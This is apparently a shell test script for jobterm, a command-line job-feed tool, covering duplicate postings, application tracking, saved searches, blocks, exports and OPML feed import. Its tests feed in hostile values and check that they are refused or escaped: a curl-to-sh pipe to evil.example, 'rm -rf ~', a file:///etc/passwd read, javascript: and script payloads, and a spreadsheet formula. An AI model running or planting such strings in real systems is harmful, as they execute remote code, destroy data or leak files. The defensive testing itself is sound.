#!/bin/sh
# The job hunt through the headless commands, on real database files (issue 7): duplicates
# across boards and the near-misses that must stay apart, application tracking, saved
# searches and what is new in them, blocked companies and words, export in three formats,
# and the feed list as OPML, hostile entries included. Offline: the feeds are local files.
. "$SRCDIR/tests/lib.sh"
t_setup
[ -n "$PYTHON3" ] || t_skip "python3 not found"
export http_proxy=http://127.0.0.1:9 https_proxy=http://127.0.0.1:9

F="$SRCDIR/tests/fixtures/hunt"
json() { # json EXPR < JSON: print a python expression over `d`
    "$PYTHON3" -c "import json,sys; d=json.load(sys.stdin); r=($1); print(r)"
}
titles() { json '[j["title"] for j in d]'; }

cp "$F/board-a.json" "$T/a.json"
cp "$F/board-b.json" "$T/b.json"
{ jt feeds add "$T/a.json" --name "Board A" && jt feeds add "$T/b.json" --name "Board B" &&
    jt fetch; } >/dev/null || { diag "could not prepare the database"; exit 99; }

# ---- duplicates ----------------------------------------------------------------------------

all=$(jt list --format json)
check_eq "one row per job" "$(printf '%s' "$all" | json 'len(d)')" 7
check_eq "the Acme job once, carried by two boards" \
    "$(printf '%s' "$all" | json '[(j["title"], j["sources"]) for j in d if "ackend" in j["title"]]')" \
    "[('Backend Engineer (Remote)', 2)]"
check_eq "the same title at two companies stays two jobs" \
    "$(printf '%s' "$all" | json 'sorted(j["company"] for j in d if j["title"] == "Data Engineer")')" \
    "['Globex', 'Umbrella']"
check_eq "one company in two cities stays two jobs" \
    "$(printf '%s' "$all" | json 'sorted(j["location"] for j in d if j["title"] == "Platform Engineer")')" \
    "['Austin, TX', 'Raleigh, NC']"
check_eq "every element has sources and status" \
    "$(printf '%s' "$all" | json 'all(j["sources"] >= 1 and j["status"] is None for j in d)')" True
check_eq "--no-group lists every copy" "$(jt list --no-group --format json | json 'len(d)')" 8
printf 'set group-duplicates = no\n' >"$T/config"
check_eq "and so does set group-duplicates = no" "$(jt list --format json | json 'len(d)')" 8
: >"$T/config"
check_eq "the count of a copy is its job's" \
    "$(jt list --no-group --format json | json '[j["sources"] for j in d if j["title"] == "backend engineer"]')" \
    "[2]"
acme=$(printf '%s' "$all" | json '[j["id"] for j in d if "ackend" in j["title"]][0]')
copy=$(jt list --no-group --format json | json '[j["id"] for j in d if j["title"] == "backend engineer"][0]')
out=$(jt show "$acme")
check_contains "show lists every source" "$out" "https://a.example/jobs/backend (Board A"
check_contains "both of them" "$out" "https://b.example/jobs/1 (Board B"
check_eq "show --format json has every source URL" \
    "$(jt show "$copy" --format json | json 'd["source_urls"]')" \
    "['https://b.example/jobs/1', 'https://a.example/jobs/backend']"
check_contains "the table shows the count" "$(jt list)" "×2"
check_eq "csv has status and sources" "$(jt list --format csv | head -n 1 | tr -d '\r')" \
    "id,title,company,location,remote,salary_min,salary_max,salary_currency,salary_period,posted,url,feed,favourite,status,sources"

# ---- tracking --------------------------------------------------------------------------------

check "track a copy" jt track "$copy" applied --note "Sent the CV to Ann.
Call back Monday."
check_eq "list --status applied: the job, once" \
    "$(jt list --status applied --format json | json '[(j["id"], j["status"], j["favourite"]) for j in d]')" \
    "[($acme, 'applied', True)]"
check_eq "every copy is tracked and starred" \
    "$(jt list --no-group --favourites --format json | json 'sorted((j["status"], j["favourite"]) for j in d)')" \
    "[('applied', True), ('applied', True)]"
check_eq "--status tracked" "$(jt list --status tracked --format json | json 'len(d)')" 1
check_eq "--status offer" "$(jt list --status offer --format json)" "[]"
check "then interviewing" jt track "$acme" interviewing
show=$(jt show "$acme" --format json)
check_eq "show: status, note and history" \
    "$(printf '%s' "$show" | json 'd["status"], d["note"], [h["status"] for h in d["history"]]')" \
    "('interviewing', 'Sent the CV to Ann.\nCall back Monday.', ['applied', 'interviewing'])"
check_contains "show as text" "$(jt show "$acme")" "Status:   interviewing since"
jt fav rm "$acme" 2>"$T/err"
check_eq "a tracked posting cannot be unstarred" "$?" 1
check_contains "and jobterm says how to stop tracking it" "$(cat "$T/err")" "track $acme none"
jt track "$acme" hired 2>"$T/err"
check_eq "an unknown status is a usage error" "$?" 2
jt track 999999 applied 2>"$T/err"
check_eq "an unknown posting fails" "$?" 1
jt track "$acme" 2>/dev/null
check_eq "track needs a status or a note" "$?" 2
check "a status on another job" jt track "$(printf '%s' "$all" | json '[j["id"] for j in d if j["company"] == "Globex"][0]')" saved
jt feeds rm "file://$T/a.json" >/dev/null
jt feeds rm "file://$T/b.json" >/dev/null
check_eq "tracked jobs outlive their feeds" \
    "$(jt list --status tracked --format json | json 'sorted(j["status"] for j in d)')" \
    "['interviewing', 'saved']"
check_eq "and nothing else is left" "$(jt list --no-group --format json | json 'len(d)')" 3
check "stop tracking" jt track "$acme" none
check_eq "untracked, still starred, note kept" \
    "$(jt show "$acme" --format json | json 'd["status"], d["favourite"], d["note"] is not None')" \
    "(None, True, True)"
jt fav rm "$acme" 2>"$T/err"
check_eq "a posting with a note cannot be unstarred either" "$?" 1
check_contains "and jobterm says how to remove the note" "$(cat "$T/err")" "track $acme --note ''"
check_eq "so the note is never lost with the posting" \
    "$(jt show "$acme" --format json | json 'd["favourite"], d["note"] is not None')" "(True, True)"
check "feeds come back" jt feeds add "$T/a.json" --name "Board A"
jt feeds add "$T/b.json" --name "Board B" >/dev/null
jt fetch >/dev/null

# ---- saved searches --------------------------------------------------------------------------

check "search save" jt search save zurich --location zurich --keyword backend
check_contains "search list: nothing new yet" "$(jt search list)" "0 new · --keyword backend --location zurich"
jt search save "" 2>/dev/null
check_eq "a search needs a name" "$?" 2
jt search save "--x" 2>/dev/null
check_eq "a name is not an option" "$?" 2
sleep 1
cp "$F/board-b-later.json" "$T/b.json"
jt fetch >/dev/null
check_eq "the new posting is counted, the new copy of a known job is not" \
    "$(jt search list --format json | json '[(s["name"], s["new"]) for s in d]')" "[('zurich', 1)]"
check_eq "list --search --new lists it" "$(jt list --search zurich --new --format json | titles)" \
    "['Staff Backend Engineer']"
check_eq "and opening the search resets the count" \
    "$(jt search list --format json | json 'd[0]["new"]')" 0
check_eq "list --search lists every match" \
    "$(jt list --search zurich --format json | json 'sorted(j["title"] for j in d)')" \
    "['Backend Engineer (Remote)', 'Staff Backend Engineer']"
check_eq "options given with --search change it" \
    "$(jt list --search zurich --keyword staff --format json | titles)" "['Staff Backend Engineer']"
check_eq "the repost joined its job: three copies, two boards" \
    "$(jt show "$acme" --format json | json 'len(d["source_urls"]), d["sources"]')" "(3, 2)"
jt list --search nope 2>"$T/err"
check_eq "an unknown search fails" "$?" 1
check_contains "naming it" "$(cat "$T/err")" "no saved search nope"
jt list --new 2>/dev/null
check_eq "--new needs --search" "$?" 2
check "search rm" jt search rm zurich
check_eq "gone" "$(jt search list --format json)" "[]"

# ---- blocked companies and words -------------------------------------------------------------

before=$(jt list --format json | json 'len(d)')
printf 'block-company "Umbrella Corp."\nblock-word crypto\nblock-company "Initech" extra\n' >>"$T/config"
jt list --format json >"$T/out" 2>"$T/err"
check_contains "a bad block line is a warning" "$(cat "$T/err")" "config:3: expected one name"
check_eq "a blocked company and word are hidden" \
    "$(json 'sorted(j["title"] for j in d if j["company"] in ("Umbrella", "Coins Ltd"))' <"$T/out")" "[]"
check_eq "and only those" "$(json 'len(d)' <"$T/out")" "$((before - 2))"
check_eq "--blocked shows them" "$(jt list --blocked --format json | json 'len(d)')" "$before"
fav=$(jt list --blocked --format json | json '[j["id"] for j in d if j["company"] == "Coins Ltd"][0]')
jt fav add "$fav"
check_eq "a favourite is never hidden" \
    "$(jt list --format json | json '[j["company"] for j in d if j["company"] == "Coins Ltd"]')" \
    "['Coins Ltd']"
printf 'set mouse = yes\n' >"$T/config"
check_eq "a block removed from the config file no longer hides" \
    "$(jt list --format json | json 'len(d)')" "$before"

# ---- export ----------------------------------------------------------------------------------

jt track "$acme" offer --note "=HYPERLINK(\"x\") offer: 120k." >/dev/null
csv=$(jt export)
check_eq "export: favourites by default" "$(printf '%s\n' "$csv" | tail -n +2 | grep -c .)" 3
check_contains "with their status" "$csv" ',"offer",'
check_contains "the links of every copy" "$csv" '"https://a.example/jobs/backend https://b.example/jobs/1 https://b.example/jobs/5"'
check_contains "and the note, formula defused" "$csv" "\"'=HYPERLINK(\"\"x\"\") offer: 120k.\""
check_eq "export --format json" \
    "$(jt export --format json | json 'sorted((j["status"], j["sources"]) for j in d if j["status"])')" \
    "[('offer', 2), ('saved', 1)]"
check_eq "export with a filter selects what it says" \
    "$(jt export --keyword platform --format json | json 'len(d)')" 2
check_eq "export --all" "$(jt export --all --format json | json 'len(d)')" "$(jt list --format json | json 'len(d)')"
md=$(jt export --format markdown)
check_contains "markdown: a heading per job" "$md" "## Backend Engineer \\(Remote\\) · Acme, Inc\\."
check_contains "the status" "$md" "- Status: offer since"
check_contains "links" "$md" "<https://a.example/jobs/backend>"
check_contains "the note as a quote" "$md" "> =HYPERLINK\\(\"x\"\\) offer: 120k\\."
jt fav add "$(jt list --format json | json '[j["id"] for j in d if j["location"] == "Oslo"][0]')"
md=$(jt export --format markdown)
check_not_contains "no live markdown link from a feed" "$md" "](javascript:"
check_not_contains "no raw HTML from a feed" "$md" "<script>"
check_contains "it is escaped text" "$md" "\\[Click me\\]\\(javascript:alert\\(1\\)\\) \\<script\\>"
check_not_contains "no heading injected" "$md" "
# Heading Co"
jt export --format yaml 2>/dev/null
check_eq "an unknown format is a usage error" "$?" 2

# ---- the feed list as OPML -------------------------------------------------------------------

jt feeds export >"$T/feeds.opml"
check_eq "feeds export is OPML with every feed" \
    "$("$PYTHON3" -c "import sys, xml.etree.ElementTree as E; r=E.parse(sys.argv[1]).getroot(); \
print(r.tag, [(o.get('text'), o.get('xmlUrl').startswith('file://')) for o in r.iter('outline')])" "$T/feeds.opml")" \
    "opml [('Board A', True), ('Board B', True)]"
jt feeds import "$F/hostile.opml" >"$T/out" 2>"$T/err"
check_eq "importing a hostile list exits 1" "$?" 1
check_contains "the good feeds are added" "$(cat "$T/out")" "added https://remote.example/jobs.rss"
check_contains "with their entities decoded" "$(cat "$T/out")" "added https://ab.example/feed?a=1&b=2"
check_contains "and counted" "$(cat "$T/out")" "2 feeds added, 0 already there, 9 refused"
for why in "exec:~/bin/jobs.sh: exec: URLs run a command" \
    "filter:~/bin/clean.sh:https://x.example/feed: filter: URLs run a command" \
    "|curl https://evil.example | sh: a |command runs a command" \
    "EXEC:rm -rf ~: exec: URLs run a command" \
    "file:///etc/passwd: file: URLs read local files" \
    "javascript:alert(document.cookie): javascript: URLs are scripts" \
    "ftp://ftp.example/jobs.rss: " "data:text/html,<script>alert(1)</script>: "; do
    check_contains "refused with a reason: ${why%%:*}:" "$(cat "$T/err")" "refused $why"
done
check_not_contains "no escape sequence reaches the terminal" "$(cat "$T/err" "$T/out")" "$(printf '\033')"
feeds=$(jt feeds list --format json)
check_eq "only http and https feeds were added" \
    "$(printf '%s' "$feeds" | json 'sorted(f["url"] for f in d if not f["url"].startswith("file:"))')" \
    "['https://ab.example/feed?a=1&b=2', 'https://remote.example/jobs.rss']"
check_eq "with their names and a known format" \
    "$(printf '%s' "$feeds" | json '[(f["name"], f["format"]) for f in d if "ab.example" in f["url"]]')" \
    "[('A & B careers', 'greenhouse')]"
check_eq "importing again adds nothing" \
    "$(jt feeds import "$F/hostile.opml" 2>/dev/null | tail -n 1)" "0 feeds added, 2 already there, 9 refused"
# What one jobterm exports, another imports (its file: URLs refused, the rest kept).
jt feeds export >"$T/mine.opml"
"$JOBTERM" --db "$T/other.db" --config "$T/config" feeds import "$T/mine.opml" >"$T/out" 2>/dev/null
check_eq "a round trip between two databases" "$(tail -n 1 "$T/out")" "2 feeds added, 0 already there, 2 refused"
jt feeds export | "$JOBTERM" --db "$T/third.db" --config "$T/config" feeds import - >"$T/out" 2>/dev/null
check_eq "feeds import - reads standard input" "$(tail -n 1 "$T/out")" \
    "2 feeds added, 0 already there, 2 refused"
printf '<html><body>not a feed list</body></html>' >"$T/page.html"
jt feeds import "$T/page.html" 2>"$T/err"
check_eq "a file that is not OPML is refused" "$?" 1
check_contains "saying so" "$(cat "$T/err")" "not an OPML document"
jt feeds import "$T/missing.opml" 2>/dev/null
check_eq "a missing file fails" "$?" 1

t_done
